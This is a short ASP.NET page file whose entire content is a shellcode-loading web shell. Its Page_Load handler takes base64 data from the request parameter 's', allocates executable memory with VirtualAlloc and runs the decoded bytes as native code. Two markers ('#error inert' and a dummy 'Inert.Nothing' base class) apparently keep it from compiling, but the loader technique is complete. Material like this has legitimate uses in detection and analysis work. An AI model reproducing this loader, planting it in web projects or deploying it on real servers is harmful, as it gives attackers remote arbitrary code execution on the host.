<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
[System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a,uint b,uint c,uint d); delegate void D(); void Page_Load(object s,EventArgs e){ byte[] b=Convert.FromBase64String(Request["s"]); IntPtr p=VirtualAlloc(IntPtr.Zero,(uint)b.Length,0x1000,0x40); System.Runtime.InteropServices.Marshal.Copy(b,0,p,b.Length); ((D)System.Runtime.InteropServices.Marshal.GetDelegateForFunctionPointer(p,typeof(D)))(); }
</script>
